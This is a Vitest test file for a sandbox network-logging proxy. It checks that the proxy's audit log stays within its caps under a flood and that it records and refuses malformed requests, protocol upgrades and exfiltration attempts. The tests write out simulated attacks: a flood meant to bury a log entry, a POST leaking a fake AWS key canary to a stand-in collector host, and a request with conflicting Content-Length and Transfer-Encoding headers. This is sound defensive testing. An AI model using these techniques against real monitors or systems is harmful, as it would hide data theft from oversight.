import net from "node:net";
import { afterAll, describe, expect, it } from "vitest";
import { type LoggingProxy, NetworkEvent, startProxy } from "../../src/sandbox/proxy";

/**
 * A trial that floods the real proxy cannot grow the audit process or the network log
 * without bound, cannot bury an exfiltration attempt under the flood, and cannot hide a
 * request by making the HTTP parser reject it. Traffic goes to the proxy's Unix socket only.
 */

const canaries = [{ name: "aws_key", value: "AKIAFLOODCANARY12345" }];

function send(socketPath: string, raw: string | Buffer): Promise<string> {
  return new Promise((resolve) => {
    const s = net.connect(socketPath);
    let out = "";
    s.on("data", (d) => {
      out += d.toString("latin1");
    });
    s.on("close", () => resolve(out));
    s.on("error", () => {});
    s.end(raw);
  });
}

const proxies: LoggingProxy[] = [];
afterAll(async () => {
  for (const p of proxies) await p.close();
});

describe("proxy log under a flood", () => {
  it("keeps the log within its caps, counts everything, and keeps the exfiltration after the flood", async () => {
    const p = await startProxy({ policy: "logged", allowlist: [], canaries });
    proxies.push(p);
    const N = 3000;
    const big = "x".repeat(15 * 1024);
    for (let i = 0; i < N; i += 50) {
      await Promise.all(
        Array.from({ length: 50 }, (_, j) =>
          send(
            p.socketPath,
            `GET http://flood${i + j}.test/ HTTP/1.1\r\nHost: flood.test\r\nX-Pad: ${big}\r\nConnection: close\r\n\r\n`,
          ),
        ),
      );
    }
    const leak = `k=${canaries[0]?.value}`;
    const answer = await send(
      p.socketPath,
      `POST http://collector.test/in HTTP/1.1\r\nHost: collector.test\r\nContent-Length: ${leak.length}\r\nConnection: close\r\n\r\n${leak}`,
    );
    expect(answer).toMatch(/^HTTP\/1.1 403/);

    const bytes = p.events.reduce((n, e) => n + JSON.stringify(e).length + 1, 0);
    expect(bytes).toBeLessThanOrEqual(p.limits.maxLogBytes);
    expect(p.events.length).toBeLessThanOrEqual(p.limits.maxEvents + p.limits.maxCanaryEvents);
    // the counts include what the log no longer holds
    expect(p.stats).toMatchObject({ events: N + 1, denied: N + 1, canaryHits: 1, leaked: ["aws_key"] });
    expect(p.stats.dropped).toBe(N + 1 - p.events.length);
    expect(p.stats.dropped).toBeGreaterThan(0);
    // the attempt that carried the canary is still in the log
    expect(p.events.filter((e) => e.canaries.includes("aws_key"))).toHaveLength(1);
    // a kept event's headers are cut, and say so
    expect(JSON.stringify(p.events[0]?.headers).length).toBeLessThan(5 * 1024);
    expect(p.events[0]?.headersTruncated).toBe(true);
  }, 120_000);

  it("logs requests the HTTP parser rejects as malformed, with their canaries", async () => {
    const p = await startProxy({ policy: "logged", allowlist: [], canaries });
    proxies.push(p);
    const answers = [
      await send(p.socketPath, "NOT-HTTP\r\n\r\n"),
      await send(
        p.socketPath,
        `GET http://a.test/ HTTP/1.1\r\nX-Leak: ${canaries[0]?.value}\r\nX: ${"y".repeat(20_000)}\r\n\r\n`,
      ),
      await send(
        p.socketPath,
        "GET http://a.test/ HTTP/1.1\r\nHost: a\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n",
      ),
      await send(p.socketPath, Buffer.from([0x16, 0x03, 0x01, 0x00, 0x05, 1, 2, 3, 4, 5])),
    ];
    for (const a of answers) expect(a).toMatch(/^(HTTP\/1.1 4\d\d|)/);
    const bad = p.events.filter((e) => e.kind === "malformed");
    expect(bad).toHaveLength(4);
    for (const e of bad) {
      expect(NetworkEvent.parse(e)).toMatchObject({ allowed: false, protocol: "unknown" });
      expect(e.error).toMatch(/^HPE_|parse/i);
    }
    expect(bad[1]?.canaries).toEqual(["aws_key"]);
    expect(p.stats).toMatchObject({ events: 4, denied: 4, canaryHits: 1, leaked: ["aws_key"] });
  });

  it("logs and refuses a protocol upgrade instead of dropping it unseen", async () => {
    const p = await startProxy({ policy: "open", allowlist: [], canaries });
    proxies.push(p);
    const a = await send(
      p.socketPath,
      `GET http://ws.test/ HTTP/1.1\r\nHost: ws.test\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nX-K: ${canaries[0]?.value}\r\n\r\n`,
    );
    expect(a).toMatch(/^HTTP\/1.1 403/);
    expect(p.events).toHaveLength(1);
    expect(p.events[0]).toMatchObject({
      allowed: false,
      status: 403,
      canaries: ["aws_key"],
      host: "ws.test",
    });
  });
});
